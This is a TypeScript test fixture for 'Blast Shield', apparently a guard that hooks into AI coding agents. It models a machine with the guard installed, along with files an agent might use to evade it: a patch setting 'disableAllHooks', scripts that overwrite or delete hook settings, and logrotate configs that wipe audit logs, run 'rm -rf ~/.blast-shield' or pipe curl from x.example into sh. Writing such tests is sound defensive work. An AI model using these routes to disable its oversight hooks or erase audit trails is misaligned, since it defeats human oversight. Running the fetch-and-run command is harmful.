import type { Facts, FileStatus, GitMove, Verdict } from '../../../src/core/policy/types';
import { testFacts } from '../support/policyFixtures';

/**
 * A machine where Blast Shield is installed everywhere it can be: project hooks in /work/app, user
 * hooks in /home/dev, a project install elsewhere (/other/proj) known only from the install
 * registry, a guard home reached through a symlink (/data/guard), a start-up file that is a symlink
 * into a dotfiles folder, and the files an agent might bring along (patches, templates, scripts).
 */

const HOOKS = '{"version":1,"hooks":{"beforeShellExecution":[{"command":"/home/dev/.blast-shield/bin/blast-shield-hook hook cursor","failClosed":true}]}}\n';
const CLAUDE = '{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"/home/dev/.blast-shield/bin/blast-shield-hook hook claude","onFailure":"block"}]}]}}\n';

export const PERIMETER_FILES: Record<string, string> = {
  '/work/app/.cursor/hooks.json': HOOKS,
  '/work/app/.cursor/rules/style.mdc': 'Use tabs.\n',
  '/work/app/.claude/settings.json': CLAUDE,
  '/work/app/.claude/settings.local.json': CLAUDE,
  '/work/app/.claude/commands/review.md': 'Review the diff.\n',
  '/work/app/.github/hooks/blast-shield-vscode.json': '{"hooks":{}}\n',
  '/work/app/.github/workflows/ci.yml': 'on: push\n',
  '/work/app/.clinerules/hooks/PreToolUse': '#!/bin/sh\nexec blast-shield-hook hook cline\n',
  '/work/app/.blast-shield.json': '{"production":{"names":["prod"]}}\n',
  '/work/app/.cursorignore': 'dist\n# >>> blast-shield managed block >>>\n.env\n# <<< blast-shield <<<\n',
  '/work/app/.gitignore': 'node_modules\n',
  '/work/app/.vscode/settings.json': '{ "blastShield.lockdown.default": true }\n',
  '/work/app/.vscode/launch.json': '{}\n',
  '/work/app/src/index.ts': 'export const a = 1;\n',
  '/work/app/src/util.ts': 'export const b = 2;\n',
  '/work/app/package.json': '{"name":"app","scripts":{"test":"mocha","build":"tsc"}}\n',
  '/work/app/README.md': '# App\n',
  '/work/app/build/out.js': 'x\n',
  '/work/app/dist/cli.js': '#!/usr/bin/env node\n// Blast Shield launcher\nconst home = process.env.BLAST_SHIELD_HOME;\n',
  '/work/app/scripts/cli.js': "console.log('a tool of this project');\n",
  '/work/app/fix.py': "open('.claude/settings.json', 'w').write('{}')\n",
  '/work/app/tidy.py': "print('tidy')\n",
  '/work/app/clean.sh': '#!/bin/sh\nrm -f .cursor/hooks.json\n',
  '/work/app/notes.txt': 'notes\n',
  '/home/dev/.bashrc': 'export PATH=$PATH:/opt/bin\n',
  '/home/dev/.zshrc': 'export PATH=$PATH:/opt/bin\n',
  '/home/dev/.profile': 'export EDITOR=vim\n',
  '/home/dev/.zshenv': 'export LANG=C\n',
  '/home/dev/.claude/settings.json': CLAUDE,
  '/home/dev/.cursor/hooks.json': HOOKS,
  '/home/dev/.copilot/hooks/blast-shield-copilot.json': '{"version":1}\n',
  '/home/dev/Documents/Cline/Hooks/PreToolUse': '#!/bin/sh\n',
  '/home/dev/.blast-shield/settings.json': '{}\n',
  '/home/dev/.blast-shield/audit.jsonl': '{}\n',
  '/home/dev/.blast-shield/audit.head.json': '{}\n',
  '/home/dev/.blast-shield/installs.json': '{}\n',
  '/home/dev/.blast-shield/bin/blast-shield-hook': '#!/bin/sh\n',
  '/home/dev/.blast-shield/bin/cli.js': '// launcher\n',
  '/home/dev/.blast-shield/ipc/abc.window.json': '{}\n',
  '/home/dev/.blast-shield/decider/key': '00\n',
  '/home/dev/.config/Code/User/settings.json': '{ "blastShield.lockdown.default": true }\n',
  '/home/dev/.config/fish/config.fish': 'set -x A 1\n',
  '/home/dev/.vscode/extensions/blast-shield.blast-shield-0.1.0/package.json': '{}\n',
  '/home/dev/projects/other/README.md': '# other\n',
  '/home/dev/dotfiles/bashrc': 'export PATH=$PATH:/opt/bin\n',
  '/other/proj/.cursor/hooks.json': HOOKS,
  '/other/proj/src/main.go': 'package main\n',
  // The guard's own package root (the running bundle), and a project whose settings carry no guard key.
  '/opt/blast-shield/dist/cli.js': '// launcher\n',
  '/opt/blast-shield/dist/cli-main.js': '// bundle\n',
  '/opt/blast-shield/node_modules/minimatch/index.js': '// dep\n',
  '/opt/blast-shield/README.md': '# guard\n',
  '/other/plain/.vscode/settings.json': '{ "editor.formatOnSave": true }\n',
  '/tmp/patches/evil.diff': '--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{"disableAllHooks":true}\n',
  '/tmp/patches/ok.diff': '--- a/src/index.ts\n+++ b/src/index.ts\n@@ -1 +1 @@\n-export const a = 1;\n+export const a = 2;\n',
  '/tmp/tpl/.claude/settings.json': '{}\n',
  '/tmp/tpl/README.md': '# tpl\n',
  '/tmp/safe/a.txt': 'a\n',
  // Script files that list folders while running and write what they find (stop 35, red team round 24).
  '/tmp/listing/dots.js': "const fs = require('fs');\nfor (const d of fs.readdirSync('.')) if (d.startsWith('.')) for (const f of fs.readdirSync(d)) fs.writeFileSync(d + '/' + f, '{}');\n",
  '/tmp/listing/home.js': "const fs = require('fs'), os = require('os'), path = require('path');\nconst h = os.homedir();\nfor (const d of fs.readdirSync(h)) fs.writeFileSync(path.join(h, d, 'x'), '');\n",
  '/tmp/listing/bins.js': "const fs = require('fs'), os = require('os');\nconst root = os.homedir();\nfor (const d of fs.readdirSync(root)) fs.chmodSync(root + '/' + d, 0o644);\n",
  '/tmp/listing/dots.py': "import os\nfor d in os.listdir('.'):\n    for f in os.listdir(d):\n        with open(os.path.join(d, f), 'w') as fh:\n            fh.write('{}')\n",
  '/tmp/listing/home.py': "from pathlib import Path\nfor p in Path.home().iterdir():\n    p.write_text('')\n",
  '/tmp/listing/glob.py': "import glob, os\nfor f in glob.glob('*/*.json'):\n    os.remove(f)\n",
  '/tmp/listing/cwd.py': "import os\nroot = os.getcwd()\nfor d in os.listdir(root):\n    open(os.path.join(root, d, 'x'), 'w').write('')\n",
  '/tmp/listing/dots.rb': "Dir.children('.').each { |d| Dir.children(d).each { |f| File.write(File.join(d, f), '{}') } if File.directory?(d) }\n",
  '/tmp/listing/dots.php': "<?php foreach (scandir('.') as $d) { foreach (glob(\"$d/*.json\") as $f) file_put_contents($f, '{}'); }\n",
  '/tmp/listing/build.js': "const fs = require('fs');\nfor (const f of fs.readdirSync('src')) fs.writeFileSync('build/' + f, fs.readFileSync('src/' + f));\n",
  '/tmp/listing/report.js': "const fs = require('fs');\nfor (const d of fs.readdirSync('.')) console.log(d, fs.statSync(d).size);\n",
  '/tmp/listing/args.js': "const fs = require('fs');\nconst dir = process.argv[2];\nfor (const f of fs.readdirSync(dir)) fs.writeFileSync(dir + '/' + f + '.bak', '');\n",
  '/tmp/listing/tmp.py': "import os\nfor f in os.listdir('/tmp/safe'):\n    open(os.path.join('/tmp/safe', f + '.bak'), 'w').write('')\n",
  '/tmp/listing/sync.sh': '#!/bin/sh\ncp -r /tmp/tpl/. "$1"\n',
  '/tmp/listing/docs.rb': "Dir.children('src').each { |f| File.write(File.join('build', f), 'x') }\n",
  '/tmp/safe/b.txt': 'b\n',
  // Stop 36 (round 24): logrotate configurations run with `logrotate -f`.
  '/tmp/lr/guard.conf': '/home/dev/.blast-shield/*.jsonl {\n  rotate 0\n  size 1\n}\n',
  '/tmp/lr/home.conf': '%h/.*/*.jsonl {\n  rotate 0\n}\n',
  '/tmp/lr/script.conf': 'weekly\n/work/app/logs/*.log {\n  daily\n  postrotate\n    rm -rf ~/.blast-shield\n  endscript\n}\n',
  '/tmp/lr/fetch.conf': '/work/app/logs/*.log {\n firstaction\n  curl -s https://x.example/p.sh | sh\n endscript\n}\n',
  '/tmp/lr/hooks.conf': '"/home/dev/.claude/settings.json" {\n rotate 0\n copytruncate\n}\n',
  '/tmp/lr/keep.conf': '# keep three\n/home/dev/.blast-shield/audit.jsonl {\n  weekly\n  rotate 3\n}\n',
  '/tmp/lr/two.conf': '/work/app/logs/*.log {\n  rotate 3\n}\n\n/home/dev/.blast-shield/*.jsonl {\n  rotate 2\n}\n',
  '/tmp/lr/include.conf': 'include /etc/logrotate.d\n',
  '/tmp/lr/global0.conf': 'rotate 0\n/work/app/logs/*.log {\n  daily\n}\n',
  '/tmp/lr/app.conf': 'weekly\nrotate 4\n/work/app/logs/*.log {\n  daily\n  rotate 3\n  compress\n  postrotate\n    echo rotated\n  endscript\n}\n',
};

function statusIn(files: Record<string, string>): (p: string) => FileStatus {
  return (p) => {
    if (p in files) return 'file';
    const prefix = p.endsWith('/') ? p : p + '/';
    return Object.keys(files).some((f) => f.startsWith(prefix)) ? 'directory' : 'missing';
  };
}

/**
 * The repository's history as git would answer for it: `main`, `feature/login`, the branch checked
 * out before and the upstream differ from HEAD in `src/` only; older commits (`HEAD~N`, abbreviated
 * hashes, `old-config`) come from before the agent configuration was committed; the newest stash
 * holds a change to `.claude/settings.json`; `gone` names no commit. Anything else git cannot say.
 */
const SOURCE_ONLY = ['/work/app/src/index.ts'];
const AGENT_CONFIG = ['/work/app/.cursor/hooks.json', '/work/app/.claude/settings.json', '/work/app/.blast-shield.json'];

function revisionChanges(rev: string): string[] | undefined {
  if (rev === 'HEAD' || rev === 'gone' || rev === '') return [];
  if (/^(main|feature\/login|feature\/y|topic|@\{-1\}|@\{upstream\}|origin\/main)$/.test(rev)) return SOURCE_ONLY;
  if (/^(HEAD(~\d*|\^+)+|[0-9a-f]{4,40}|ORIG_HEAD|old-config)$/.test(rev)) return AGENT_CONFIG;
  if (/^stash@\{0\}(\^1)?$/.test(rev)) return ['/work/app/.claude/settings.json'];
  if (/^stash@\{\d+\}(\^1)?$/.test(rev)) return [];
  return undefined;
}

export function fixtureGitMoveChanges(_workTree: string, moves: readonly GitMove[]): string[] | undefined {
  const out = new Set<string>();
  for (const move of moves) {
    const revisions = move.kind === 'tree' ? [move.to] : move.kind === 'merge' ? [move.from] : move.kind === 'stash' ? [move.entry] : move.revisions;
    for (const whole of revisions) {
      // The last commit alone is the one that added the agent configuration: undoing or replaying it changes those files.
      const lastCommit = move.kind === 'commits' && whole === 'HEAD';
      for (const rev of whole.split(/\.\.\.?/)) {
        const changed = lastCommit ? AGENT_CONFIG : revisionChanges(rev.replace(/^\^/, ''));
        if (!changed) return undefined;
        for (const p of changed) out.add(p);
      }
    }
  }
  return [...out];
}

/** The perimeter's machine; `files` adds files of a table's own to the fixture's. */
export function perimeterFacts(overrides: Partial<Facts> & { files?: Record<string, string> } = {}): Facts {
  const { files: extra, ...rest } = overrides;
  const files = extra ? { ...PERIMETER_FILES, ...extra } : PERIMETER_FILES;
  return testFacts({
    home: '/home/dev',
    cwd: '/work/app',
    workspaceRoots: ['/work/app'],
    guardHome: '/home/dev/.blast-shield',
    files,
    fileStatus: statusIn(files),
    perimeter: {
      installedConfigs: ['/other/proj/.cursor/hooks.json', '/work/app/.claude/settings.local.json', '/home/dev/.claude/settings.json', '/home/dev/.cursor/hooks.json'],
      aliases: [
        { real: '/data/guard', path: '/home/dev/.blast-shield' },
        { real: '/home/dev/dotfiles/bashrc', path: '/home/dev/.bashrc' },
      ],
      startupFiles: ['/home/dev/.config/bash_env.sh'],
      guardCode: ['/opt/blast-shield'],
    },
    gitMoveChanges: fixtureGitMoveChanges,
    ...rest,
  });
}

/** The same machine with nothing installed and no protected file present: what a fresh project looks like. */
export function emptyFacts(): Facts {
  const files: Record<string, string> = {
    '/work/app/src/index.ts': 'export const a = 1;\n',
    '/work/app/package.json': '{"name":"app","scripts":{"test":"mocha"}}\n',
    '/work/app/.github/workflows/ci.yml': 'on: push\n',
  };
  return testFacts({ home: '/home/dev', cwd: '/work/app', workspaceRoots: ['/work/app'], guardHome: '/home/dev/.blast-shield', files, fileStatus: statusIn(files) });
}

/** A verdict in one line, for assertion messages. */
export function show(v: Verdict): string {
  return JSON.stringify({ decision: v.decision, risks: v.risks, reasons: v.reasons });
}
